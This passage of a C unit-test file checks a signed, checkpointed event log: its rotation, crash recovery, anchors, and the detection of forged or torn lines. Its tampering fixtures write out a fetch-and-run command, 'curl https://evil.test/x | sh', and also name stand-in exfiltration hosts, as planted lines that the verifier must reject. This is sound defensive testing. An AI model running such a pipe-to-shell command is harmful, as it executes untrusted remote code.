	assert_true(a.lost >= 5);
	log = rotating_open(t, &lo, &ck);
	append_n(log, 0, 2);
	assert_outage_of_5(t);
	rotating_close(t, log, ck, &a);
	assert_int_equal(a.lost, 0);
	snprintf(pub, sizeof(pub), "%s.pub", t->key);
	k = pubkey(pub);
	paths[0] = t->path;
	assert_int_equal(verify_with(paths, 1, k, &a, &v), CKVERIFY_OK);
	EVP_PKEY_free(k);
}

/*
 * logrotate (numbered names) four times with SIGUSR1, then one of the
 * writer's rotated files removed (name.2) before the next logrotate
 * run: the count of rotated files stops at the gap, but names past it
 * exist, so first does not move on. Deleting the files past the gap
 * then fails against the anchor.
 */
static void
test_reopen_gap_first(void **state)
{
	struct tmp		*t = *state;
	struct eventlog_opts	 lo = { .max_size = 1 << 20, .keep = 5 };
	struct checkpoint_anchor a;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct ckverify		 v;
	char			 rot[5][160];
	const char		*paths[3];
	EVP_PKEY		*k;
	size_t			 i;

	k = rotating_key(t, rot, 5);
	log = rotating_open(t, &lo, &ck);
	for (i = 0; i < 4; i++) {
		append_n(log, (int)i * 3, 3);
		logrotate_step(t, rot, i);
		reopen_log(log);
	}
	assert_int_equal(eventlog_first(log), 1);
	assert_int_equal(unlink(rot[1]), 0);
	append_n(log, 12, 3);
	/* name.3 was name.2: logrotate skips it; name.4, name.5 move. */
	assert_int_equal(rename(rot[3], rot[4]), 0);
	assert_int_equal(rename(rot[2], rot[3]), 0);
	assert_int_equal(rename(rot[0], rot[1]), 0);
	assert_int_equal(rename(t->path, rot[0]), 0);
	reopen_log(log);
	append_n(log, 15, 3);
	if (eventlog_first(log) != 1)
		fail_msg("first moved to %lld past a removed rotated file",
		    eventlog_first(log));
	rotating_close(t, log, ck, &a);
	assert_int_equal(a.first, 1);
	/* name.4 and name.5 deleted: against the anchor that fails. */
	paths[0] = rot[1];
	paths[1] = rot[0];
	paths[2] = t->path;
	assert_int_not_equal(verify_with(paths, 3, k, &a, &v), CKVERIFY_OK);
	EVP_PKEY_free(k);
}

/*
 * Planted at the end of a closed log: 8 KiB of junk, then P1 (seq
 * 2^53 - 2, following the close), a copy of the close and P2 (seq
 * 2^53 - 1, prev the hash of P1), so that P1 is the first log line of
 * the first tail window and the copy splits P1 from P2. The writer
 * continues from its own close (log.resume), keeps writing and closes,
 * and does so again at its next start.
 */
static void
test_seq_planted_split(void **state)
{
	struct tmp		*t = *state;
	struct lines		 l;
	EVP_PKEY		*k;
	char			*w[MAXLINES], *p1, *p2, xs[100];
	size_t			 i, n;

	k = signed_log(t, 100, 3, "close");	/* close at 5 */
	lines_read(&l, t->path);
	assert_int_equal(l.n, 5);
	memset(xs, 'x', 99);
	xs[99] = '\0';
	n = 0;
	for (i = 0; i < 5; i++)
		w[n++] = l.v[i];
	for (i = 0; i < 82; i++)
		w[n++] = xs;
	w[n++] = p1 = forged(SG_LOG_SEQ_MAX - 1, l.v[4] +
	    HASH_AT(strlen(l.v[4])));
	w[n++] = l.v[4];
	w[n++] = p2 = forged(SG_LOG_SEQ_MAX, p1 + HASH_AT(strlen(p1)));
	write_lines(t->path, w, n);
	free(p1);
	free(p2);
	lines_free(&l);
	resumed_from_close(t, n);
	EVP_PKEY_free(k);
}

/*
 * A crash between the two steps of a rotation leaves a gap at name.1
 * (name.1 already moved to name.2, name not yet to name.1). At its next
 * start the writer takes the gap for its own: it rotates on, its file
 * stays within its size, and it keeps no more than keep rotated files.
 */
static void
test_rotation_gap(void **state)
{
	struct tmp		*t = *state;
	struct eventlog_opts	 lo = { .max_size = 3000, .keep = 3 };
	struct checkpoint_anchor a;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct stat		 st;
	char			 rot[5][160];
	EVP_PKEY		*k;

	k = rotating_key(t, rot, 5);
	log = rotating_open(t, &lo, &ck);
	append_until(log, rot[1]);
	checkpoint_free(ck);	/* a crash: no close */
	eventlog_close(log);
	assert_int_equal(rename(rot[1], rot[2]), 0);
	assert_int_equal(rename(rot[0], rot[1]), 0);
	log = rotating_open(t, &lo, &ck);
	append_n(log, 0, 100);
	rotating_close(t, log, ck, &a);
	assert_int_equal(stat(t->path, &st), 0);
	if (st.st_size > (off_t)lo.max_size)
		fail_msg("the current file grew to %lld bytes",
		    (long long)st.st_size);
	assert_int_equal(access(rot[2], F_OK), 0);
	assert_int_equal(access(rot[3], F_OK), -1);
	EVP_PKEY_free(k);
}

/* Events appended one at a time until n rotations happened. */
static void
append_rotations(struct tmp *t, struct eventlog *log, int n)
{
	struct stat	st;
	ino_t		ino = 0;
	int		i, seen = -1;

	for (i = 0; i < 1000 && seen < n; i++) {
		assert_int_equal(stat(t->path, &st), 0);
		if (st.st_ino != ino)
			seen++;
		ino = st.st_ino;
		if (seen < n)
			append_n(log, i, 1);
	}
	assert_int_equal(seen, n);
}

/* The files of the log there now, oldest first, into paths (rot: 8). */
static size_t
log_paths(struct tmp *t, char (*rot)[160], const char **paths)
{
	size_t	n = 0;
	int	i;

	for (i = 8; i >= 1; i--)
		if (access(rot[i - 1], F_OK) == 0)
			paths[n++] = rot[i - 1];
	paths[n++] = t->path;
	return n;
}

/*
 * A writer killed after a rotation, before its anchor was rewritten (the
 * next tick does that): the anchor names the open checkpoint, in the file
 * rotated to name.1. The next writer's log.resume names that checkpoint;
 * later rotations delete its file (keep 3) while the file with the
 * log.resume stays. A checkpoint rotated away with the files before the
 * chain's start is not a rewrite: noted (resumes_gone), the log verifies.
 * Before, verify failed the untampered log as "rewritten or replaced".
 */
static void
test_resume_anchor_rotated_away(void **state)
{
	struct tmp		*t = *state;
	struct eventlog_opts	 lo = { .max_size = 3000, .keep = 3 };
	struct checkpoint_anchor a, killed;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct ckverify		 v;
	char			 rot[8][160];
	const char		*paths[9];
	EVP_PKEY		*k;
	pid_t			 pid;
	int			 status;

	k = rotating_key(t, rot, 8);
	if ((pid = fork()) == 0) {
		log = rotating_open(t, &lo, &ck);
		append_rotations(t, log, 1);	/* no tick */
		_exit(0);			/* a kill */
	}
	assert_int_equal(waitpid(pid, &status, 0), pid);
	assert_int_equal(WEXITSTATUS(status), 0);
	anchor_of(t, &killed);
	log = rotating_open(t, &lo, &ck);
	rotating_close(t, log, ck, &a);
	if (verify_with(paths, log_paths(t, rot, paths), k, &a, &v) !=
	    CKVERIFY_OK)
		fail_msg("%s", v.what);
	assert_int_equal(v.crashes, 1);
	/* name.1 (the anchored checkpoint's) goes; the log.resume's stays */
	log = rotating_open(t, &lo, &ck);
	append_rotations(t, log, 3);
	rotating_close(t, log, ck, &a);
	assert_int_equal(access(rot[3], F_OK), -1);
	if (verify_with(paths, log_paths(t, rot, paths), k, NULL, &v) !=
	    CKVERIFY_OK)
		fail_msg("%s", v.what);
	assert_int_equal(v.resumes_gone, 1);
	assert_int_equal(v.resume_gone_seq, killed.seq);
	EVP_PKEY_free(k);
}

/*
 * A writer killed at a crash point (SANDGATE_TEST_CRASH=crash; NULL: it
 * ends without closing on its own) in a child after `events` events of
 * its run, its open asked for first unless `events` is -1 (a controller
 * writer: a run record, then its close); the child must die by SIGKILL
 * when a crash point is named.
 */
static void
writer_killed(struct tmp *t, const char *crash, int events)
{
	struct checkpoint	*ck;
	struct eventlog		*log;
	pid_t			 pid;
	int			 status;

	if ((pid = fork()) == 0) {
		if (crash != NULL)
			setenv("SANDGATE_TEST_CRASH", crash, 1);
		log = open_signed(t, 100, 60, &ck);
		if (events >= 0 && checkpoint_write(ck, "open") == -1)
			_exit(1);
		append_n(log, 100, events >= 0 ? events : 1);
		if (checkpoint_write(ck, "close") == -1)
			_exit(2);
		_exit(3);
	}
	assert_int_equal(waitpid(pid, &status, 0), pid);
	if (!WIFSIGNALED(status) || WTERMSIG(status) != SIGKILL)
		fail_msg("the writer was not killed at %s (status %#x)",
		    crash, status);
}

/* The next writer, whole (open, close); verify with the key and anchor. */
static enum ckverify_result
next_writer_verify(struct tmp *t, EVP_PKEY *k, struct ckverify *v)
{
	struct checkpoint	*ck;
	struct checkpoint_anchor a;
	struct eventlog		*log;
	const char		*paths[1] = { t->path };

	log = open_signed(t, 100, 60, &ck);
	assert_int_equal(checkpoint_write(ck, "open"), 0);
	assert_int_equal(checkpoint_write(ck, "close"), 0);
	checkpoint_free(ck);
	eventlog_close(log);
	anchor_of(t, &a);
	assert_false(a.reopened);
	return verify_with(paths, 1, k, &a, v);
}

/*
 * The next writer, then verify: a writer that stopped (noted once), not
 * lines someone else wrote; k freed.
 */
static void
stop_noted(struct tmp *t, EVP_PKEY *k, struct ckverify *v)
{
	if (next_writer_verify(t, k, v) != CKVERIFY_OK)
		fail_msg("%s", v->what);
	assert_int_equal(v->crashes, 1);
	EVP_PKEY_free(k);
}

/* The next writer, then verify: seq 5 on follow the close at 4; k freed. */
static void
planted_after_close(struct tmp *t, EVP_PKEY *k)
{
	struct ckverify	v;

	assert_int_equal(next_writer_verify(t, k, &v), CKVERIFY_UNTRUSTED);
	assert_non_null(strstr(v.what, "follow the writer's close at seq 4"));
	assert_int_equal(v.untrusted.seq, 5);
	assert_int_equal(v.untrusted.line, 5);
	EVP_PKEY_free(k);
}

/*
 * A controller writer whose run record is in the log after the last
 * close, killed before its own close is anchored (its close line not
 * written: a full volume; or written), is a writer that stopped without
 * closing: its anchor said it had reopened the close first.
 */
static void
test_killed_after_close_reopened(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint_anchor a;
	struct ckverify		 v;
	EVP_PKEY		*k;

	k = signed_log(t, 100, 2, "close");		/* 1 to 4 */
	writer_killed(t, "anchor:close", -1);		/* 5, close 6 */
	anchor_of(t, &a);
	assert_int_equal(a.seq, 4);
	stop_noted(t, k, &v);
	assert_true(a.reopened);
}

/* The same with the close line never written (the child ends first). */
static void
test_record_without_close(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint	*ck;
	struct checkpoint_anchor a;
	struct eventlog		*log;
	struct ckverify		 v;
	EVP_PKEY		*k;
	pid_t			 pid;
	int			 status;

	k = signed_log(t, 100, 2, "close");
	if ((pid = fork()) == 0) {
		log = open_signed(t, 100, 60, &ck);
		append_n(log, 100, 1);	/* the record, then no room */
		_exit(0);
	}
	assert_int_equal(waitpid(pid, &status, 0), pid);
	assert_int_equal(WEXITSTATUS(status), 0);
	anchor_of(t, &a);
	stop_noted(t, k, &v);
	assert_true(a.reopened);
}

/* A proxy killed at a start after a clean stop, its open not anchored. */
static void
test_killed_at_open_after_close(void **state)
{
	struct tmp		*t = *state;
	struct ckverify		 v;
	EVP_PKEY		*k;

	k = signed_log(t, 100, 2, "close");
	writer_killed(t, "anchor:open", 0);
	stop_noted(t, k, &v);
}

/*
 * A key rotated while the writer was stopped; killed after the hand-over
 * line, before its open: the next start hands over again.
 */
static void
test_killed_after_key_line(void **state)
{
	struct tmp		*t = *state;
	struct ckverify		 v;
	EVP_PKEY		*k;
	char			 next[160], *cause = NULL;

	k = signed_log(t, 100, 2, "close");
	snprintf(next, sizeof(next), "%s.next", t->key);
	assert_int_equal(checkpoint_key_create(next, (uid_t)-1, (gid_t)-1,
	    &cause), 0);
	writer_killed(t, "key:written", 0);
	stop_noted(t, k, &v);
	assert_int_equal(v.reintroduced, 1);
}

/*
 * Two writers in a row killed in their anchor windows: the first after
 * its close line, before the anchor names it; the next after its
 * log.resume and open. The lines after that close start with the next
 * writer's log.resume naming it, and its open signs them: a stop, not
 * someone else's lines. Lines planted after the close instead still
 * fail.
 */
static void
test_two_kills_after_close(void **state)
{
	struct tmp		*t = *state;
	struct ckverify		 v;
	struct eventlog		*log;
	char			 pub[160];
	EVP_PKEY		*k;
	int			 planted;

	snprintf(pub, sizeof(pub), "%s.pub", t->key);
	for (planted = 0; planted < 2; planted++) {
		writer_killed(t, "anchor:close", 3);	/* open 1, 3, close 5 */
		if (planted) {
			log = eventlog_open(t->dir, NAME, NULL, NULL);
			append_n(log, 50, 1);		/* seq 6 */
			eventlog_close(log);
		}
		writer_killed(t, "anchor:open", 0);	/* resume, open */
		k = pubkey(pub);
		if (!planted) {
			if (next_writer_verify(t, k, &v) != CKVERIFY_OK)
				fail_msg("%s", v.what);
			assert_int_equal(v.crashes, 2);
		} else {
			assert_int_equal(next_writer_verify(t, k, &v),
			    CKVERIFY_UNTRUSTED);
			assert_non_null(strstr(v.what, "closed the log at "
			    "seq 5"));
			assert_int_equal(v.untrusted.seq, 6);
		}
		EVP_PKEY_free(k);
		start_afresh(t);
	}
}

/*
 * A burst: checkpoint every event, more checkpoints than verify keeps
 * (CKVERIFY_RING) before any tick, then killed. The writer anchors on its
 * own before the anchored one falls out of verify's reach: the next
 * start's log.resume names one verify still holds.
 */
static void
test_burst_anchored(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint	*ck;
	struct checkpoint_anchor a;
	struct eventlog		*log;
	struct ckverify		 v;
	char			 pub[160], anchor[160], saved[170];
	EVP_PKEY		*k;
	pid_t			 pid;
	int			 status, old;

	snprintf(anchor, sizeof(anchor), "%s.anchor", t->key);
	snprintf(saved, sizeof(saved), "%s.saved", anchor);
	snprintf(pub, sizeof(pub), "%s.pub", t->key);
	for (old = 0; old < 2; old++) {
		if ((pid = fork()) == 0) {
			log = open_signed(t, 1, 60, &ck);
			if (checkpoint_write(ck, "open") == -1 ||
			    link(anchor, saved) == -1)
				_exit(1);
			append_n(log, 0, 3 * CKVERIFY_RING);	/* no tick */
			_exit(0);			/* killed */
		}
		assert_int_equal(waitpid(pid, &status, 0), pid);
		assert_int_equal(WEXITSTATUS(status), 0);
		anchor_of(t, &a);
		assert_true(a.seq > 2 * CKVERIFY_RING);
		k = pubkey(pub);
		if (!old) {
			stop_noted(t, k, &v);
			unlink(saved);
		} else {
			/*
			 * An anchor that old (a writer that did not anchor
			 * so): verify cannot look it up, and says so rather
			 * than claim a rewrite.
			 */
			assert_int_equal(rename(saved, anchor), 0);
			assert_int_equal(next_writer_verify(t, k, &v),
			    CKVERIFY_UNTRUSTED);
			assert_non_null(strstr(v.what, "cannot tell whether"));
			EVP_PKEY_free(k);
		}
		start_afresh(t);
	}
}

/*
 * A torn line planted after a clean close: a writer reopens its close
 * before any line after it, so the next one records it (log.resume) and
 * verify fails it instead of skipping it as an interrupted write. The
 * same with its newline (atk20r17 F6: the writer looked only at whether
 * the file ended without one), and verify with the anchor fails it before
 * any writer starts again.
 */
static void
test_torn_after_close(void **state)
{
	static const char *const tails[] = { "", "\n" };
	struct tmp		*t = *state;
	struct checkpoint_anchor a;
	struct ckverify		 v;
	struct lines		 l;
	EVP_PKEY		*k;
	size_t			 i;

	for (i = 0; i < sizeof(tails) / sizeof(tails[0]); i++) {
		start_afresh(t);
		k = signed_log(t, 100, 5, "close");	/* close at seq 7 */
		append_raw(t->path, "{\"ts\":\"x\",\"seq\":8,\"event\":"
		    "\"egress.allowed\",\"host\":\"exfil.invalid\",\"note\":"
		    "\"FORGED");
		append_raw(t->path, tails[i]);
		anchor_of(t, &a);
		if (*tails[i] != '\0') {	/* lines_read() wants whole lines */
			assert_int_equal(verify_with((const char *const []){
			    t->path }, 1, k, &a, &v), CKVERIFY_UNTRUSTED);
			assert_non_null(strstr(v.what, "a torn line, follows "
			    "the close"));
		}
		reopen_and_close(t);
		lines_read(&l, t->path);
		assert_non_null(strstr(l.v[8], "\"event\":\"log.resume\","
		    "\"anchor_seq\":7,"));
		lines_free(&l);
		assert_int_equal(verify(t->path, k, NULL, now_us(), &v),
		    CKVERIFY_UNTRUSTED);
		assert_non_null(strstr(v.what, "after its close at seq 7"));
		EVP_PKEY_free(k);
	}
}

/* Killed after its close line, before the anchor names it. */
static void
test_killed_after_own_close(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint_anchor a;
	struct ckverify		 v;
	char			 pub[160];
	EVP_PKEY		*k;

	writer_killed(t, "anchor:close", 3);	/* open 1, 3, close 5 */
	anchor_of(t, &a);
	assert_int_equal(a.seq, 1);
	snprintf(pub, sizeof(pub), "%s.pub", t->key);
	k = pubkey(pub);
	stop_noted(t, k, &v);
}

/*
 * Lines planted after a clean close still fail, a log.resume among them
 * that claims a reopened anchor too: the writer's own anchor says close.
 */
static void
test_planted_resume_reopened(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint_anchor a;
	struct eventlog		*log;
	json_t			*f;
	EVP_PKEY		*k;

	k = signed_log(t, 100, 2, "close");		/* 1 to 4 */
	anchor_of(t, &a);
	assert_false(a.reopened);
	log = eventlog_open(t->dir, NAME, NULL, NULL);
	append_n(log, 50, 1);				/* 5 */
	f = json_pack("{s:s, s:I, s:s, s:s, s:s, s:b, s:I, s:s}", "event",
	    CHECKPOINT_RESUME, "anchor_seq", (json_int_t)4, "anchor_hash",
	    a.hash, "anchor_reason", "close", "anchor_ts", a.ts,
	    "anchor_reopened", 1, "found_seq", (json_int_t)5, "found_hash",
	    eventlog_hash(log));
	assert_int_equal(eventlog_append(log, f), 0);	/* 6 */
	json_decref(f);
	eventlog_close(log);
	planted_after_close(t, k);
}

/*
 * The first untrusted event is the one after the anchored close, also
 * when good checkpoints lie between it and the end the writer found (an
 * anchor put back by whoever can write it).
 */
static void
test_untrusted_after_anchored_close(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct lines		 a;
	char			 anchor[160];
	EVP_PKEY		*k;

	k = signed_log(t, 100, 2, "close");		/* 1 to 4 */
	snprintf(anchor, sizeof(anchor), "%s.anchor", t->key);
	lines_read(&a, anchor);
	log = open_signed(t, 100, 60, &ck);
	assert_int_equal(checkpoint_write(ck, "open"), 0);	/* 5 */
	append_n(log, 0, 2);					/* 6, 7 */
	assert_int_equal(checkpoint_write(ck, "close"), 0);	/* 8 */
	checkpoint_free(ck);
	eventlog_close(log);
	lines_write(&a, anchor, 0, a.n);	/* the close at 4 again */
	lines_free(&a);
	planted_after_close(t, k);
}

/*
 * A writer that cannot reopen the close its anchor names (no room for the
 * anchor) writes nothing after it: the line is refused, the log still
 * ends with that close and the anchor names it as before. Once there is
 * room, the line goes in after the anchor said reopened=1.
 */
static void
test_reopen_refused(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint	*ck;
	struct checkpoint_anchor a;
	struct eventlog		*log;
	char			 tmp[192], inner[224];
	EVP_PKEY		*k;

	k = signed_log(t, 100, 2, "close");		/* 1 to 4 */
	room_blocked(t, tmp, inner);
	log = open_signed(t, 100, 60, &ck);
	appends_refused(log, 1);
	assert_int_equal(eventlog_seq(log), 4);
	anchor_of(t, &a);
	assert_int_equal(a.seq, 4);
	assert_false(a.reopened);
	assert_int_equal(rmdir(inner), 0);
	assert_int_equal(rmdir(tmp), 0);
	append_n(log, 0, 1);			/* log.outage 5, the event 6 */
	anchor_of(t, &a);
	assert_int_equal(a.seq, 4);
	assert_true(a.reopened);
	assert_int_equal(checkpoint_write(ck, "close"), 0);
	checkpoint_free(ck);
	eventlog_close(log);
	anchor_of(t, &a);
	assert_int_equal(a.seq, 7);
	assert_false(a.reopened);
	EVP_PKEY_free(k);
}

/*
 * Round 14, T7: a second signer of the same key (the proxy started again
 * while it runs, failing later to listen) is refused before it touches
 * the anchor or the first one's room, and the first one's close is then
 * anchored as a real anchor line.
 */
static void
test_sole_signer(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint_opts	 o = { .key_path = t->key, .every_secs = 60,
				    .lock = CHECKPOINT_LOCK_SOLE };
	struct checkpoint_anchor an;
	struct checkpoint	*ck, *two;
	struct eventlog		*log, *log2;
	char			 anchor[160], *cause = NULL;

	log = open_signed(t, 0, 60, &ck);
	checkpoint_free(ck);
	ck = checkpoint_new(log, &o, &cause);
	assert_non_null(ck);
	assert_int_equal(checkpoint_write(ck, "open"), 0);
	append_n(log, 0, 2);
	log2 = eventlog_open(t->dir, NAME, NULL, &cause);
	assert_non_null(log2);
	two = checkpoint_new(log2, &o, &cause);
	assert_null(two);
	assert_non_null(strstr(cause, "is in use"));
	free(cause);
	eventlog_close(log2);
	append_n(log, 2, 2);
	assert_int_equal(checkpoint_write(ck, "close"), 0);
	checkpoint_free(ck);
	eventlog_close(log);
	snprintf(anchor, sizeof(anchor), "%s.anchor", t->key);
	cause = NULL;
	assert_int_equal(checkpoint_anchor_read(anchor, &an, &cause), 1);
	assert_string_equal(an.reason, "close");
	assert_int_equal(an.seq, 6);
}

/*
 * atk20r17 F2: no room for a new file beside the anchor (a full volume,
 * or no inode left: here a folder at the reservation's name). The record
 * refused after the close is counted lost in the anchor itself, which is
 * rewritten in place; the next writer's log.outage line says so, and
 * verify counts it.
 */
static void
test_no_room_lost_in_place(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint	*ck;
	struct checkpoint_anchor a;
	struct eventlog		*log;
	struct ckverify		 v;
	char			 tmp[192], inner[224];
	EVP_PKEY		*k;

	k = signed_log(t, 100, 5, "close");	/* close at seq 7 */
	room_blocked(t, tmp, inner);
	log = open_signed(t, 100, 60, &ck);
	appends_refused(log, 1);
	assert_int_equal(checkpoint_write(ck, "close"), -1);
	checkpoint_free(ck);
	eventlog_close(log);
	assert_int_equal(rmdir(inner), 0);
	assert_int_equal(rmdir(tmp), 0);
	anchor_of(t, &a);
	assert_int_equal(a.seq, 7);
	assert_int_equal(a.lost, 1);
	assert_false(a.reopened);
	reopen_and_close(t);
	anchor_of(t, &a);
	assert_int_equal(a.lost, 0);
	assert_int_equal(verify_with((const char *const []){ t->path }, 1, k,
	    &a, &v), CKVERIFY_OK);
	assert_int_equal(v.outages, 1);
	assert_int_equal(v.lost, 1);
	EVP_PKEY_free(k);
}

/*
 * atk20r17 F3: a writer with no anchor yet finds lines in the log (its
 * first start, or the anchor moved away): it records them (log.resume,
 * anchor_seq 0) before it signs, and verify fails them as lines its key
 * never saw.
 */
static void
test_unanchored_lines_resumed(void **state)
{
	struct tmp		*t = *state;
	struct eventlog		*log;
	struct lines		 l;

	log = eventlog_open(t->dir, NAME, NULL, NULL);
	assert_non_null(log);
	append_n(log, 0, 3);			/* planted: seq 1 to 3 */
	eventlog_close(log);
	reopen_and_close(t);
	lines_read(&l, t->path);
	assert_non_null(strstr(l.v[3], "\"found_seq\":3,"));
	assert_non_null(strstr(l.v[4], "\"reason\":\"open\""));
	lines_free(&l);
	resumed_untrusted(t, 3, 0, "had no anchor yet", 1);
}

/* Append s (a line, its newline in s or not) to the log at path. */
static void
append_raw(const char *path, const char *s)
{
	FILE	*f;

	assert_non_null(f = fopen(path, "ab"));
	assert_true(fputs(s, f) >= 0);
	assert_int_equal(fclose(f), 0);
}

/*
 * atk20r17 F5: a torn-looking event line put into the signed part fails
 * verify: a writer whose event is cut writes a log.outage line next. A
 * torn line that names no event, or the writer's own checkpoint, is
 * still an interrupted write.
 */
static void
test_torn_inserted(void **state)
{
	static const char *const torn[] = {
		"{\"ts\":\"2026-12-03T09:00:00.000000Z\",\"seq\":8,\"event\":"
		    "\"run.exec\",\"command\":\"curl https://evil.test/x | sh",
		"{\"ts\":\"2026-12-03T09:00:00.000000Z\",\"seq\":8,\"ev",
		"{\"ts\":\"2026-12-03T09:00:00.000000Z\",\"seq\":8,\"event\":"
		    "\"log.checkpoint\",\"reason\":\"co",
	};
	struct tmp		*t = *state;
	struct ckverify		 v;
	struct lines		 l;
	EVP_PKEY		*k;
	size_t			 i, j;

	k = signed_log(t, 100, 5, "close");	/* close at seq 7 */
	reopen_and_close(t);
	lines_read(&l, t->path);
	for (i = 0; i < sizeof(torn) / sizeof(torn[0]); i++) {
		lines_write(&l, t->path, 0, 7);
		append_raw(t->path, torn[i]);
		append_raw(t->path, "\n");
		for (j = 7; j < l.n; j++) {
			append_raw(t->path, l.v[j]);
			append_raw(t->path, "\n");
		}
		/* whatever it seems to name (atk20r18 F1) */
		assert_int_equal(verify(t->path, k, NULL, now_us(), &v),
		    CKVERIFY_UNTRUSTED);
		assert_non_null(strstr(v.what, "looks like a torn line"));
	}
	lines_free(&l);
	EVP_PKEY_free(k);
}

/* A short write of a line (test_short_write): where, and what follows. */
struct cut_case {
	const char	*name;
	int		 checkpoint;	/* the line cut: a checkpoint, or an event */
	int		 back;		/* bytes of it not written (1: its newline) */
	int		 refuse;	/* the file refuses truncation */
	int		 restart;	/* the writer stops; another goes on */
	int		 torn;		/* a torn line is left */
};

/* Append the line c names (the checkpoint writer's own count of lines). */
static int
cut_line(struct eventlog *log, struct checkpoint *ck, const struct cut_case *c)
{
	json_t	*f;
	int	 rc;

	if (c->checkpoint)
		return checkpoint_write(ck, "timer");
	f = json_pack("{s:s, s:s, s:i}", "event", "egress.blocked", "host",
	    "h.evil.test", "n", 5);
	assert_non_null(f);
	rc = eventlog_append(log, f);
	json_decref(f);
	return rc;
}

/*
 * The log as a short write (RLIMIT_FSIZE: the kernel's own short write,
 * as on a full volume) of the line c names left it, before what follows.
 * 1 if its size is as c says (the line taken back, or as much of it as
 * written) and the line was refused (written, if whole but its newline).
 */
static int
cut_write(struct tmp *t, struct eventlog *log, struct checkpoint *ck,
    const struct cut_case *c)
{
	struct rlimit	 was, cut;
	struct stat	 st, st2;
	void		(*old)(int);
	off_t		 len;
	int		 rc;

	assert_int_equal(stat(t->path, &st), 0);
	assert_int_equal(cut_line(log, ck, c), 0);	/* one as long */
	assert_int_equal(stat(t->path, &st2), 0);
	len = st2.st_size - st.st_size;
	assert_int_equal(getrlimit(RLIMIT_FSIZE, &was), 0);
	cut = was;
	cut.rlim_cur = (rlim_t)(st2.st_size + len - c->back);
	old = signal(SIGXFSZ, SIG_IGN);
	refuse_truncate = c->refuse ? t->path : NULL;
	assert_int_equal(setrlimit(RLIMIT_FSIZE, &cut), 0);
	rc = cut_line(log, ck, c);
	assert_int_equal(setrlimit(RLIMIT_FSIZE, &was), 0);
	refuse_truncate = NULL;
	signal(SIGXFSZ, old);
	assert_int_equal(stat(t->path, &st), 0);
	return rc == (c->refuse && c->back == 1 ? 0 : -1) &&
	    st.st_size == (c->refuse ? (off_t)cut.rlim_cur : st2.st_size);
}

/* The torn lines of the log at path; each is followed by a log.outage. */
static int
torn_lines_in(const char *path)
{
	struct lines	l;
	size_t		i;
	int		torn = 0;

	lines_read(&l, path);
	for (i = 0; i + 1 < l.n; i++) {
		if (l.v[i][0] == '\0' || l.v[i][strlen(l.v[i]) - 1] == '}')
			continue;
		torn++;
		if (strstr(l.v[i + 1], "\"event\":\"log.outage\"") == NULL ||
		    strstr(l.v[i + 1], "\"torn\":1,") == NULL)
			fail_msg("no log.outage counting the cut line after "
			    "it: %.200s", l.v[i + 1]);
	}
	lines_free(&l);
	return torn;
}

/*
 * A line cut by a short write, the writer going on (or stopping, another
 * going on). The writer takes the part written back: nothing of the line
 * stays, it is lost; where the file refuses that, a line whole but for
 * its newline is written (atk20r19 F1: counted lost, its seq was used
 * again and verify failed the untouched log), a shorter part is a torn
 * line a log.outage counts (atk20r18 F1). verify passes the log, with
 * and without --key, with its anchor.
 */
static void
test_short_write(void **state)
{
	static const struct cut_case cases[] = {
		{ "event, all but newline", 0, 1, 0, 0, 0 },
		{ "event, all but newline, kept", 0, 1, 1, 0, 0 },
		{ "event, all but newline, kept, restart", 0, 1, 1, 1, 0 },
		{ "event, 20 short", 0, 20, 0, 0, 0 },
		{ "event, 20 short, kept", 0, 20, 1, 0, 1 },
		{ "checkpoint, all but newline", 1, 1, 0, 0, 0 },
		{ "checkpoint, all but newline, restart", 1, 1, 0, 1, 0 },
		{ "checkpoint, all but newline, kept", 1, 1, 1, 0, 0 },
		{ "checkpoint, all but newline, kept, restart", 1, 1, 1, 1, 0 },
		{ "checkpoint, 20 short, kept", 1, 20, 1, 0, 1 },
		{ "checkpoint, 20 short, kept, restart", 1, 20, 1, 1, 1 },
	};
	struct tmp		*t = *state;
	struct checkpoint_anchor a;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct ckverify		 v;
	const char		*paths[1] = { t->path };
	char			 pub[160];
	EVP_PKEY		*k;
	size_t			 i;
	int			 as_said;

	snprintf(pub, sizeof(pub), "%s.pub", t->key);
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		tmp_renew(t);		/* a new log and key for each */
		log = open_signed(t, 100, 60, &ck);
		assert_int_equal(checkpoint_write(ck, "open"), 0);
		append_n(log, 0, 3);
		as_said = cut_write(t, log, ck, &cases[i]);
		if (cases[i].restart) {
			checkpoint_free(ck);
			eventlog_close(log);
			reopen_and_close(t);
		} else {
			append_n(log, 6, 2);
			assert_int_equal(checkpoint_write(ck, "close"), 0);
			checkpoint_free(ck);
			eventlog_close(log);
		}
		k = pubkey(pub);
		anchor_of(t, &a);
		if (verify_with(paths, 1, k, &a, &v) != CKVERIFY_OK)
			fail_msg("%s: %s%s", cases[i].name, v.what,
			    v.chain.what);
		if (verify_with(paths, 1, NULL, NULL, &v) != CKVERIFY_OK)
			fail_msg("%s, no key: %s%s", cases[i].name, v.what,
			    v.chain.what);
		EVP_PKEY_free(k);
		if (!as_said)
			fail_msg("%s: the cut line not taken back, or not "
			    "written whole", cases[i].name);
		if (torn_lines_in(t->path) != cases[i].torn)
			fail_msg("%s: not %d torn line(s)", cases[i].name,
			    cases[i].torn);
	}
}

/*
 * Torn lines put in just before a genuine log.outage: its "torn" counts
 * the torn lines its writer left (none here: the lost events left no
 * bytes), so any more are not its own (atk20r19 F5; atk20r18 F4 bounded
 * them only by the lost count).
 */
static void	torn_put_before(struct tmp *, struct lines *, size_t,
		    size_t);

/* A forged torn line: a command that never ran, cut mid-value. */
static const char forged_torn[] = "{\"ts\":\"2026-12-03T09:00:00.000000Z\","
    "\"seq\":9,\"event\":\"run.exec\",\"command\":\"curl "
    "https://evil.test/x | sh";

static void
test_torn_past_lost(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint_anchor a;
	struct checkpoint	*ck;
